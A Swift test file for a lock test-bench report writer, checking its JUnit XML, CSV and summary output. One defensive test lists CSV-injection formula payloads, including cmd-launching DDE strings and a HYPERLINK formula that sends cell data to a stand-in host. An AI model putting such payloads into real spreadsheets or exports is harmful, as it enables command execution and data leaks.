import BenchKit
import Foundation
import LockDiagAPI
import LockDiagTestSupport
import Testing

/// A report with every kind of step outcome and hostile text in ids and messages.
func sampleReport() -> BenchReport {
    let limits = Limits([.motorPeakCurrent: Limit(max: 1800), .actuationTime: Limit(min: 300, max: 1500)])
    let origin = Evaluate.Origin(lock: "SN-\"1\"<&>", step: 2, stepKind: "actuate", cycle: 3, context: "lock", at: "2026-11-29T10:00:00.000Z")
    let summary = ActuationSummary(actuation: 118, direction: "lock", source: "host", result: "reached", durationMilliseconds: 812,
                                   peakCurrentMilliamps: 2140, runningCurrentMilliamps: 251, batteryRestMillivolts: 6100,
                                   batteryLoadedMillivolts: 5880, internalResistanceMilliohms: 876, endStopAtMilliseconds: 790,
                                   analysis: "normal", samples: 4, sampleRateHz: 1000, at: "2026-11-29T10:00:00.000Z")
    let outcome = Evaluate.actuation(summary, trace: MotorTrace(actuation: 118, sampleRateHz: 1000, samplesMilliamps: [1400, 300, 250, 1200]),
                                     findings: [], limits: limits, origin: origin)
    let steps = [
        StepResult(index: 1, kind: "identify", title: "identify", verdict: .pass, durationSeconds: 0.01, log: ["model LX-300, serial \"x\"\u{1}"]),
        StepResult(index: 2, kind: "actuate", title: "actuate 3 cycles, pause 0.5 s", verdict: .fail, failures: outcome.failures,
                   durationSeconds: 6.2, measurements: outcome.measurements, traces: outcome.traces, log: ["cycle 1/3 done, a,b\r\nnext"]),
        StepResult(index: 3, kind: "soak", title: "soak 30 s", verdict: .error, reason: "SN-1 went offline at 10:00:07 — check its cable and power"),
        StepResult(index: 4, kind: "no_confirmed_faults", title: "no confirmed faults", verdict: .skipped, reason: "interrupted (Ctrl-C) before this step ran"),
    ]
    let lock = LockResult(id: "SN-\"1\"<&>", path: "/dev/ttyACM0", model: "LX-300", firmware: "2.4.1", serial: "SN-\"1\"<&>",
                          startedAt: "2026-11-29T10:00:00.000Z", durationSeconds: 6.3, steps: steps)
    let good = LockResult(id: "SN-2", model: "LX-300", firmware: "2.4.1", joinedLate: true, startedAt: "2026-11-29T10:00:01.000Z",
                          durationSeconds: 1, steps: [StepResult(index: 1, kind: "identify", title: "identify")])
    return BenchReport(plan: "eol <rack 3>", hostname: "rig-1", startedAt: "2026-11-29T10:00:00.000Z", durationSeconds: 7, locks: [lock, good],
                       interrupted: false)
}

@Suite struct WriterTests {
    @Test func limitsTurnMeasurementsIntoFailuresThatCarryTheValueAndTheLimit() {
        let report = sampleReport()
        let step = report.locks[0].steps[1]
        #expect(step.failures == ["peak motor current 2140 mA outside the limit ≤ 1800 mA (cycle 3 lock, actuation 118)"])
        let peak = step.measurements.first { $0.name == "motor_peak_current_ma" }
        #expect(peak?.pass == false && peak?.limit == Limit(max: 1800))
        #expect(step.measurements.first { $0.name == "actuation_time_ms" }?.pass == true)
        #expect(step.measurements.first { $0.name == "battery_sag_mv" }?.value == 220)
        #expect(step.measurements.first { $0.name == "internal_resistance_mohm" }?.pass == nil)
        #expect(report.locks[0].verdict == .fail && report.locks[1].verdict == .pass && !report.passed)
    }

    @Test func junitValidatesAgainstTheSchemaAndCarriesMeasurementAndLimit() throws {
        let xml = JUnitWriter.render(sampleReport())
        let result = try validateJUnit(xml)
        #expect(result.valid, "\(result.message)\n\(xml)")
        #expect(xml.contains("<failure message=\"peak motor current 2140 mA outside the limit ≤ 1800 mA (cycle 3 lock, actuation 118)\" type=\"limit\">"))
        #expect(xml.contains("<error message=\"SN-1 went offline at 10:00:07 — check its cable and power\""))
        #expect(xml.contains("<skipped message=\"interrupted (Ctrl-C) before this step ran\"/>"))
        #expect(xml.contains("<testsuite name=\"SN-&quot;1&quot;&lt;&amp;&gt;\" tests=\"4\" failures=\"1\" errors=\"1\" skipped=\"1\""))
        #expect(xml.contains("<property name=\"joined_late\" value=\"true\"/>"))
        #expect(!xml.contains("\u{1}"))
    }

    @Test func anInvalidReportIsCaughtByTheSchemaCheck() throws {
        // The check can fail: a testsuite without its required test count does not validate.
        let xml = JUnitWriter.render(sampleReport()).replacingOccurrences(of: " tests=\"4\"", with: "")
        #expect(try !validateJUnit(xml).valid)
    }

    @Test func csvParsesWithARealReaderAndKeepsAwkwardText() throws {
        let report = sampleReport()
        let summary = try parseCSV(CSVWriter.summary(report))
        #expect(summary[0] == CSVWriter.summaryHeader)
        #expect(summary.count == 3)
        #expect(summary[1][0] == "SN-\"1\"<&>" && summary[1][4] == "fail")
        #expect(summary[2][11] == "true")
        let measurements = try parseCSV(CSVWriter.measurements(report))
        #expect(measurements[0] == CSVWriter.measurementsHeader)
        let peak = try #require(measurements.first { $0[6] == "motor_peak_current_ma" })
        #expect(peak == ["SN-\"1\"<&>", "2", "actuate", "3", "lock", "118", "motor_peak_current_ma", "2140", "mA", "", "1800", "fail",
                         "2026-11-29T10:00:00.000Z"])
        let traces = try parseCSV(CSVWriter.traces(report))
        #expect(traces.count == 5)
        #expect(traces[4] == ["SN-\"1\"<&>", "2", "3", "lock", "118", "3", "3", "1200"])
        #expect(CSVWriter.field("a\r\nb") == "\"a\r\nb\"")
    }

    /// A lock chooses its own serial number and model strings; a spreadsheet opening the CSV
    /// must not run them as formulas (OWASP, "CSV Injection": a cell starting with = + - @ tab
    /// or CR is prefixed with a single quote and quoted). Our own numbers stay numbers.
    @Test func csvCellsALockControlsCannotBecomeSpreadsheetFormulas() throws {
        for hostile in ["=cmd|' /C calc'!A0", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
                        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"] {
            let cell = CSVWriter.field(hostile)
            #expect(cell == "\"'" + hostile.replacingOccurrences(of: "\"", with: "\"\"") + "\"", "\(hostile.debugDescription) → \(cell.debugDescription)")
        }
        for plain in ["-5", "-12.5", "0", "812", "SN-1", "LX-300", "2026-11-29T10:00:00.000Z", "a=b"] {
            #expect(CSVWriter.field(plain) == plain, "\(plain)")
        }
        // Through the writer and a real CSV reader: the value a spreadsheet shows starts with the quote.
        var report = sampleReport()
        report.locks[1].id = "=1+1"
        report.locks[1].serial = "@cmd"
        report.locks[1].model = "+LX"
        report.locks[1].firmware = "-1+1"
        let row = try parseCSV(CSVWriter.summary(report))[2]
        #expect(Array(row[0..<4]) == ["'=1+1", "'+LX", "'-1+1", "'@cmd"], "\(row)")
    }

    @Test func summaryTableShowsEachLockAndTheVerdict() {
        let lines = SummaryRenderer.render(sampleReport(), style: .plain)
        #expect(lines[0].hasPrefix("LOCK"))
        #expect(lines[1].contains("FAIL") && lines[1].contains("1/4") && lines[1].contains("peak motor current 2140 mA"))
        #expect(lines[2].contains("PASS"))
        #expect(lines.last == "eol <rack 3>: 1 passed, 1 failed (2 locks, 7 s)")
    }
}
